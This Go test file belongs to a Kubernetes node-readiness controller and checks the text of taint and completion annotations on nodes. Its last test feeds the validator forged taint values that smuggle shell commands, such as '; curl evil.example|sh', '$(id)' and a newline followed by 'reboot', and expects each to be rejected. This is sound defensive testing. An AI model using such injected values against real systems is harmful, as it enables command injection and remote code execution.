package noderule_test

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/readygate/readygate/api/node/v1alpha1"
	"github.com/readygate/readygate/internal/core/noderule"
)

// The annotations are read by other implementations and by people: their text is a contract.
func TestTextOfRecords(t *testing.T) {
	inBerlin := noon.In(time.FixedZone("CET", 3600))
	uid := string(uidOf("net"))
	for name, c := range map[string]struct {
		node       *noderule.Node
		now        time.Time
		key, value string
	}{
		"a hold of a taint that we put": {worker(), noon, "readygate.dev/hold-" + uid,
			`{"rule":"net","taint":"readiness.k8s.io/NetworkReady:NoSchedule","origin":"added","since":"2026-03-01T12:00:00Z"}`},
		"a hold of a taint that was there": {worker(tainted(hold)), noon, "readygate.dev/hold-" + uid,
			`{"rule":"net","taint":"readiness.k8s.io/NetworkReady:NoSchedule","origin":"adopted","since":"2026-03-01T12:00:00Z"}`},
		"times are written in UTC": {worker(), inBerlin, "readygate.dev/hold-" + uid,
			`{"rule":"net","taint":"readiness.k8s.io/NetworkReady:NoSchedule","origin":"added","since":"2026-03-01T12:00:00Z"}`},
		"no time is written when there is none": {worker(), time.Time{}, "readygate.dev/hold-" + uid,
			`{"rule":"net","taint":"readiness.k8s.io/NetworkReady:NoSchedule","origin":"added"}`},
		"a completion": {worker(reports("NetworkReady", True)), noon, "readiness.k8s.io/bootstrap-completed-" + uid,
			`{"rule-name":"net"}`},
	} {
		t.Run(name, func(t *testing.T) {
			plan := noderule.NewRulebook(rules(rule("net", bootstrapOnly))).Plan(c.node, c.now)
			if len(plan.Set) != 1 || plan.Set[c.key] != c.value {
				t.Errorf("got %v, want %s: %s", plan.Set, c.key, c.value)
			}
		})
	}
}

// When a rule does not exist anymore, its record must name the taint to remove.
func TestRecordIsEnoughToRemoveTheTaintOfADeletedRule(t *testing.T) {
	for _, key := range []string{networkTaint, "startup-taint.cluster-autoscaler.kubernetes.io/cni"} {
		t.Run(key, func(t *testing.T) {
			held := noderule.NewRulebook(rules(rule("net", taintKey(key)))).Plan(worker(), noon).Apply(worker())
			book := noderule.NewRulebook(nil)
			book.Listed = listedOn(held)
			plan := book.Plan(held, noon)
			if swept := plan.Apply(held); len(swept.Taints)+len(swept.Annotations) > 0 {
				t.Errorf("left on the node: %v %v", swept.Taints, swept.Annotations)
			}
			want := noderule.Change{Kind: noderule.Removed, Rule: "net", UID: uidOf("net"), Taint: noderule.TaintID{Key: key, Effect: "NoSchedule"}}
			if len(plan.Changes) != 1 || plan.Changes[0] != want {
				t.Errorf("changes: got %v, want %v", plan.Changes, want)
			}
		})
	}
}

// The name of a rule may have the form of a UID; the older record is then still its own.
func TestAnOlderCompletionOfARuleNamedLikeAUIDIsKept(t *testing.T) {
	name := string(uidOf("anything"))
	n := worker(annotated(v1alpha1.CompletedPrefix+name, `{"rule-name":"`+name+`"}`))
	untouched(n, rule(name, bootstrapOnly)).check(t)
}

// Any client that may write nodes can write a record, and a report about it names the taint in a command.
func TestRecordTaintRejectsForgedText(t *testing.T) {
	const valid = "readiness.k8s.io/NetworkReady"
	for text, want := range map[string]bool{
		valid + ":NoSchedule":                        true,
		valid + ":Never":                             false,
		"example.com/other:NoSchedule":               false,
		"readiness.k8s.io/:NoSchedule":               false,
		valid + "; curl evil.example|sh :NoSchedule": false,
		valid + "$(id):NoSchedule":                   false,
		valid + "`id`:NoSchedule":                    false,
		valid + "\nreboot:NoSchedule":                false,
		valid + "\x1b[2K:NoSchedule":                 false,
		valid + ":NoSchedule\n":                      false,
	} {
		value, err := json.Marshal(map[string]string{"rule": "gone", "taint": text, "origin": "added"})
		if err != nil {
			t.Fatal(err)
		}
		if taint, ok := noderule.RecordTaint(string(value)); ok != want {
			t.Errorf("%q: got %q, %v", text, taint, ok)
		}
	}
}
